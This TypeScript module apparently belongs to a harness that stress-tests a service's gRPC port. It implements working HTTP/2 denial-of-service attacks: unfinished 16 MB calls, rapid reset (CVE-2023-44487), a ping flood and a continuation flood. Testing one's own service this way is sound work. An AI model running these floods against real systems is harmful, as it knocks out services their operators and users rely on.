// Attacks on the gRPC port, most of them below gRPC: HTTP/2 frames that are cheap to send and expensive to
// process.

import { type ClientHttp2Session, connect } from 'node:http2'
import { connect as connectSocket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, type Attacker, attackerAddress } from '../attack.ts'
import { endHeaders, exportHead, frame, headerBlock, preface } from './http2-frames.ts'

const mebibyte = 1024 * 1024

/**
 * Writes chunks on `connections` connections that read nothing, each as fast as it accepts them; closed ones
 * are opened again.
 */
function writeFrames(attacker: Attacker, connections: number, chunks: () => () => Buffer): Promise<void> {
  return attacker.loops(connections, async () => {
    const socket = attacker.socket(attacker.orders.grpcPort)
    socket.on('data', () => {})
    socket.write(Buffer.concat([preface, frame('settings', 0, 0)]))
    const next = chunks()
    while (!socket.destroyed && !attacker.isOver) {
      attacker.count('writes')
      await attacker.write(socket, next())
    }
    if (!attacker.isOver) attacker.count('closed')
    socket.destroy()
    await sleep(20)
  })
}

/** 200 streams that are opened and reset at once. */
function resets(secret: string): () => Buffer {
  const block = headerBlock(exportHead(secret))
  const cancel = Buffer.from([0, 0, 0, 8])
  let stream = 1
  return () => {
    const frames: Buffer[] = []
    for (let at = 0; at < 200; at++, stream += 2)
      frames.push(frame('headers', endHeaders, stream, block), frame('reset', 0, stream, cancel))
    return Buffer.concat(frames)
  }
}

function session(attacker: Attacker): ClientHttp2Session {
  const { host, grpcPort: port } = attacker.orders
  const made = connect(`http://${host}:${port}`, {
    createConnection: () => connectSocket({ host, port, localAddress: attackerAddress }),
  })
  made.on('error', () => attacker.count('session failed'))
  return made
}

/** A call that announces 16 MB and sends all except a byte. Resolves when the stream is closed. */
function unfinishedCall(attacker: Attacker, on: ClientHttp2Session, written: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const head = Object.fromEntries(exportHead(attacker.orders.secrets.ingest))
    const stream = on.request(head)
    const prefix = Buffer.alloc(5)
    prefix.writeUInt32BE(written.length + 1, 1)
    stream.on('response', (answer) => attacker.count(`grpc ${answer['grpc-status'] ?? answer[':status']}`))
    stream.on('error', () => attacker.count('stream failed'))
    stream.on('close', () => resolve())
    stream.resume()
    stream.write(prefix)
    stream.write(written)
  })
}

export const attacksOnGrpc: readonly Attack[] = [
  {
    name: 'grpc-unfinished-streams',
    does: 'Thirty calls over gRPC send 16 MB except the last byte, and wait.',
    run: async (attacker) => {
      const written = Buffer.alloc(16 * mebibyte - 256)
      await attacker.loops(30, async () => {
        const on = session(attacker)
        await Promise.race([unfinishedCall(attacker, on, written), new Promise((end) => on.on('close', end))])
        on.destroy()
        await sleep(50)
      })
    },
  },
  {
    name: 'grpc-rapid-reset',
    does: 'Four connections open streams with a token and reset each at once (CVE-2023-44487).',
    run: (attacker) => writeFrames(attacker, 4, () => resets(attacker.orders.secrets.ingest)),
  },
  {
    name: 'grpc-rapid-reset-of-nobody',
    does: 'The same with an unknown token.',
    run: (attacker) => writeFrames(attacker, 4, () => resets('x'.repeat(40))),
  },
  {
    name: 'grpc-ping-flood',
    does: 'Four connections send pings endlessly.',
    run: (attacker) => {
      const pings = Buffer.concat(Array.from({ length: 1000 }, () => frame('ping', 0, 0, Buffer.alloc(8))))
      return writeFrames(attacker, 4, () => () => pings)
    },
  },
  {
    name: 'grpc-continuation-flood',
    does: 'Four connections send headers that never end, in frames of 16 kB.',
    run: (attacker) =>
      writeFrames(attacker, 4, () => {
        const begin = frame('headers', 0, 1, headerBlock(exportHead('x'.repeat(40))))
        const more = frame('continuation', 0, 1, headerBlock([['x-more', 'a'.repeat(15_000)]]))
        let isFirst = true
        return () => {
          const chunk = isFirst ? begin : more
          isFirst = false
          return chunk
        }
      }),
  },
]
